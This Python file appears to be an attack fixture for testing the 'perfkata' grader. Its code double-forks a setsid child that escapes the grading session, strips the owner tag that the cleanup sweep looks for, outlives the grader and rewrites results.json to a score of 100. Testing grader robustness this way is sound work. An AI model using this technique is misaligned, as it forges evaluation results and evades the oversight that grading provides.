"""A double-forked setsid child outlives the grade and rewrites the --output results file.

attack: at import the worker's parent is perfkata itself: its --output path is read from
    /proc/<ppid>/cmdline (and its cwd). A child leaves the worker's process group and
    session (fork, os.setsid, fork again) and re-executes Python with an environment
    without the grade's owner tag (GRADE_OWNER), which the next grade's sweep looks for;
    it waits for perfkata to exit, rewrites the Gradescope results.json to 100 and
    lingers for two minutes. render_index keeps the starter's N+1, so perfkata itself
    prints a failing score. The escapee records itself (pid, sid, pgid, pid namespace) in
    <this file's stem>.escape.json beside this file, or in RECORD_DIR. (Graded with
    --output, perfkata prints one line; what decides is that the results file still
    says that line's score and that no escapee is left.)
kata: n-plus-one-blog
backend: sqlite
escape: yes
expect: Results written to
"""

import os
import sys
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.orm import Session

from perfkata.katas.n_plus_one_blog.models import Post

RECORD_DIR = None  # the test may write a folder here when it copies the attack
RECORD = Path(RECORD_DIR or Path(__file__).parent) / (Path(__file__).stem + ".escape.json")

# Run by the escapee, a fresh interpreter: argv = grader pid, results file (or ""), record.
ESCAPEE = r"""
import json, os, sys, time
from pathlib import Path
grader, output, record_path = int(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
stat = Path("/proc/self/stat").read_text().rsplit(")", 1)[1].split()
try:
    namespace = os.readlink("/proc/self/ns/pid")
except OSError:
    namespace = None
me = {"pid": os.getpid(), "sid": os.getsid(0), "pgid": os.getpgrp(), "ns": namespace,
      "starttime": int(stat[19])}
def save(me):  # atomically: the test may read it at any moment
    partial = record_path.with_suffix(".partial")
    partial.write_text(json.dumps({"escapees": [me]}))
    os.replace(partial, record_path)
try:
    save(me)
    recorded = True
except OSError:  # nowhere to say where it is: it lingers all the same, unseen
    recorded = False
while os.path.exists(f"/proc/{grader}"):  # until perfkata has written its file and exited
    time.sleep(0.05)
if output and os.path.exists(output):
    document = json.loads(Path(output).read_text())
    document["score"] = 100
    for test in document.get("tests", []):
        test["score"] = test.get("max_score", test.get("score"))
    document["output"] = "perfkata: 100/100"
    Path(output).write_text(json.dumps(document, indent=2) + "\n")
    me["forged"] = output
    if recorded:
        save(me)
time.sleep(120)  # lingers: an orphan under pid 1 (bounded, should a fence fail)
"""


def _output_path(grader: int) -> str:
    """The --output argument of perfkata's command line, made absolute with its cwd
    ("" when the parent's command line cannot be read: the escape goes on regardless)."""
    try:
        args = Path(f"/proc/{grader}/cmdline").read_bytes().split(b"\0")
    except OSError:
        return ""
    for i, arg in enumerate(args):
        if arg == b"--output" and i + 1 < len(args):
            found = os.fsdecode(args[i + 1])
        elif arg.startswith(b"--output="):
            found = os.fsdecode(arg.split(b"=", 1)[1])
        else:
            continue
        try:
            return str(Path(os.readlink(f"/proc/{grader}/cwd")) / found)
        except OSError:
            return found
    return ""


def _escape() -> None:
    grader = os.getppid()
    output = _output_path(grader)
    untagged = {k: v for k, v in os.environ.items() if k != "GRADE_OWNER"}
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.closerange(3, 4096)  # perfkata's pipes: it must not wait for this process
            argv = [sys.executable, "-c", ESCAPEE, str(grader), output, str(RECORD)]
            try:
                os.execve(sys.executable, argv, untagged)
            finally:
                os._exit(1)
        os._exit(0)
    os.wait()


_escape()


def render_index(session: Session) -> list[dict]:
    posts = session.scalars(select(Post).order_by(Post.id)).all()
    return [
        {
            "title": post.title,
            "author": post.author.name,
            "category": post.category.name,
            "comment_count": len(post.comments),
            "commenters": [comment.author.name for comment in post.comments],
        }
        for post in posts
    ]
